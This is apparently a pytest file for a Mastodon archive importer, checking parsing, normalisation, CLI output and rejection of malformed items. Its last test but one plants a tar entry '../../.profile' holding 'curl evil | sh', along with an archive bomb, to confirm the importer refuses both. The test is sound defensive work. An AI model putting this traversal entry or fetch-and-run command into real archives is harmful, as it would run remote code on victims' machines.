"""import mastodon-archive: outbox.json and actor.json, in a tar.gz or a zip."""

from __future__ import annotations

import io
import json
import shutil
import tarfile
from pathlib import Path

from tests.export_helpers import FIXTURES, FROZEN, check_golden, frozen_clock, split, zip_folder
from veilleur.imports.mastodon_archive import read_mastodon_archive
from veilleur.workspace import Workspace

EXPORT = FIXTURES / "mastodon"
STATUS = "https://social.example/users/atelier/statuses/"  # + the number: a status's URI


def _tar_gz(folder: Path, dest: Path, extra: dict[str, bytes] | None = None) -> Path:
    with tarfile.open(dest, "w:gz") as tar:
        for file in sorted(folder.iterdir()):
            tar.add(file, file.name)
        for name, data in (extra or {}).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return dest


def _read(path: Path, **kwargs: object) -> tuple[list, list]:  # type: ignore[type-arg]
    return split(read_mastodon_archive(path, clock=frozen_clock, **kwargs))  # type: ignore[arg-type]


def _count(tmp_path: Path) -> int:
    with Workspace(tmp_path / "ws") as ws:
        return ws.store.count_posts()


def test_golden() -> None:
    posts, rejections = _read(EXPORT)
    assert rejections == []
    check_golden("mastodon-archive", posts)


def test_tar_gz_zip_and_folder_read_alike(tmp_path: Path) -> None:
    expected = [p.to_json() for p in _read(EXPORT)[0]]
    for archive in (
        _tar_gz(EXPORT, tmp_path / "archive-20240301.tar.gz"),
        zip_folder(EXPORT, tmp_path / "archive.zip"),
    ):
        assert [p.to_json() for p in _read(archive)[0]] == expected


def test_what_the_archive_says_is_normalised() -> None:
    posts, _ = _read(EXPORT)
    by_id = {p.id: p for p in posts}
    assert len(posts) == 6
    first = by_id[STATUS + "111000000000000001"]
    assert (first.author, first.author_name) == ("atelier@social.example", "Atelier Plume")
    # HTML to text: hashtag as written, the shortened link written out in full
    assert first.text == (
        "Notre méthode de #veille en trois temps : sources, requêtes & synthèse.\n"
        "Tout est ici : https://atelier-plume.example/blog/veille-2024"
    )
    assert (first.likes, first.reposts, first.lang) == (5, 2, "fr")
    assert first.url == "https://social.example/@atelier/111000000000000001"
    assert first.collected_at == FROZEN
    reply = by_id[STATUS + "111000000000000002"]
    assert reply.text.startswith("@camille Merci")
    assert reply.reply_to == "https://autre.example/users/camille/statuses/109999999999999999"
    photos = by_id[STATUS + "111000000000000003"]
    assert photos.text.startswith("Photos de l’atelier (visages)\n\n")  # the warning first
    assert [(m.type, m.alt) for m in photos.media] == [
        ("image", "Six personnes autour d’une table, carnets ouverts."),
        ("video", None),
    ]
    # ids are URIs, the collector's too; so are replies in the account's own thread
    assert by_id[STATUS + "111000000000000004"].reply_to == STATUS + "111000000000000003"
    assert by_id[STATUS + "111000000000000004"].likes is None  # no totals written: unknown, not 0
    boost = by_id[STATUS + "111000000000000005/activity"]
    assert (boost.text, boost.repost_of) == (
        "",
        "https://journal.example/users/redaction/statuses/110999999999999000",
    )
    assert by_id[STATUS + "111000000000000006"].lang == "en"


def test_import_twice_from_tar_gz(cli, tmp_path: Path) -> None:
    archive = _tar_gz(EXPORT, tmp_path / "archive.tar.gz")
    first = cli("import", "mastodon-archive", str(archive))
    assert first.code == 0, first.err
    assert "6 read · 6 new" in first.out
    second = cli("import", "mastodon-archive", "--json", str(archive))
    summary = json.loads(second.out)
    assert (second.code, summary["new"], summary["known"]) == (0, 0, 6)


def test_without_actor_json_the_handle_is_asked_for(cli, tmp_path: Path) -> None:
    folder = tmp_path / "archive"
    shutil.copytree(EXPORT, folder)
    (folder / "actor.json").unlink()
    result = cli("import", "mastodon-archive", str(folder))
    assert result.code == 2 and "--author user@instance" in result.err
    result = cli("import", "mastodon-archive", "--author", "@atelier@social.example", str(folder))
    assert result.code == 0
    with Workspace(tmp_path / "ws") as ws:
        post = ws.store.get_post("mastodon", STATUS + "111000000000000001")
    assert post is not None and post.author == "atelier@social.example"


def test_wrong_json_in_outbox_writes_nothing(cli, tmp_path: Path) -> None:
    folder = tmp_path / "archive"
    shutil.copytree(EXPORT, folder)
    outbox = folder / "outbox.json"
    outbox.write_bytes(outbox.read_bytes()[:5000])
    archive = _tar_gz(folder, tmp_path / "archive.tar.gz")
    result = cli("import", "mastodon-archive", str(archive))
    assert result.code == 2
    assert f"{archive}!outbox.json: line " in result.err and "cut short" in result.err
    assert "OrderedCollection" in result.err  # what was expected
    assert _count(tmp_path) == 0


def test_missing_outbox(cli, tmp_path: Path) -> None:
    folder = tmp_path / "archive"
    folder.mkdir()
    shutil.copy(EXPORT / "actor.json", folder)
    archive = _tar_gz(folder, tmp_path / "archive.tar.gz")
    result = cli("import", "mastodon-archive", str(archive))
    assert result.code == 2 and "archive.tar.gz: no outbox.json in it" in result.err


def test_bad_items_are_rejected_and_the_rest_kept(cli, tmp_path: Path) -> None:
    folder = tmp_path / "archive"
    shutil.copytree(EXPORT, folder)
    outbox = json.loads((folder / "outbox.json").read_text(encoding="utf-8"))
    outbox["orderedItems"][1]["object"]["published"] = "le 2 février"
    outbox["orderedItems"][1].pop("published")
    outbox["orderedItems"][4].pop("object")
    outbox["orderedItems"].append(["pas", "une", "activité"])
    outbox["orderedItems"].append({"type": "Delete", "object": "x"})  # not a post: passed over
    (folder / "outbox.json").write_text(json.dumps(outbox), encoding="utf-8")
    result = cli("import", "mastodon-archive", "--json", str(folder))
    assert result.code == 1
    summary = json.loads(result.out)
    assert (summary["new"], summary["rejected"]) == (4, 3)
    where = folder / "outbox.json"
    assert [(r["where"], r["reason"]) for r in summary["rejections"]] == [
        (f"{where} (item 2)", "published 'le 2 février' is not an ISO 8601 date"),
        (f"{where} (item 5)", "an Announce without id or object"),
        (f"{where} (item 7)", "expected an activity object, got list"),
    ]


def test_tar_gz_traversal_and_bomb_are_refused(cli, tmp_path: Path) -> None:
    evil = _tar_gz(EXPORT, tmp_path / "evil.tar.gz", {"../../.profile": b"curl evil | sh"})
    result = cli("import", "mastodon-archive", str(evil))
    assert result.code == 2 and "path traversal" in result.err
    bomb = _tar_gz(EXPORT, tmp_path / "bomb.tar.gz", {"media.bin": b"\0" * (40 * 1024 * 1024)})
    result = cli("import", "mastodon-archive", str(bomb))
    assert result.code == 2 and "bomb.tar.gz" in result.err and "archive bomb" in result.err
    assert _count(tmp_path) == 0


def test_truncated_tar_gz(cli, tmp_path: Path) -> None:
    archive = _tar_gz(EXPORT, tmp_path / "archive.tar.gz")
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(archive.read_bytes()[:1500])
    result = cli("import", "mastodon-archive", str(cut))
    assert result.code == 2
    assert "cut.tar.gz" in result.err and "cut short" in result.err
    assert _count(tmp_path) == 0
